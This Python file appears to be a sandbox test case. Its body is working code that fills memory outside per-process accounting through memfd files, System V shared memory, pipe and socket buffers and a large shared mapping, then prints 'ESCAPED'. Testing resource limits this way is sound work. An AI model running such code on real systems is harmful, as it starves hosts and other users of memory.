"""Takes memory that is in no process: memfd, System V shared memory, pipes, socket buffers, mapped files."""
# where: latent_grid
# lost: latent_grid
# seconds: 90

import ctypes
import mmap
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
block = b"\1" * 2**20
kept = []
try:
    for _ in range(8):
        handle = os.memfd_create("genlab-attack")
        for _ in range(512):
            os.write(handle, block)
        kept.append(handle)
    print("escaped".upper(), "memfd")
except OSError as error:
    print("memfd", error)
for _ in range(8):
    number = libc.shmget(0, ctypes.c_size_t(2**29), 0o1600)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0) if number >= 0 else None
    if address and address != 2**64 - 1:
        ctypes.memset(address, 1, 2**29)
        libc.shmctl(number, 0, None)
        print("shared memory", number)
try:
    for _ in range(2000):
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        kept += [reader, writer]
        try:
            while True:
                os.write(writer, block)
        except BlockingIOError:
            pass
except OSError as error:
    print("pipes", error)
try:
    for _ in range(2000):
        near, far = socket.socketpair()
        near.setblocking(False)
        kept += [near, far]
        try:
            while True:
                near.send(block)
        except BlockingIOError:
            pass
except OSError as error:
    print("sockets", error)
try:
    kept.append(mmap.mmap(-1, 2**32, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
    for start in range(0, 2**32, 2**20):
        kept[-1][start : start + 2**20] = block
except (OSError, ValueError, MemoryError) as error:
    print("mmap", error)


def latent_grid(n):
    return torch.zeros(n * n, 2)
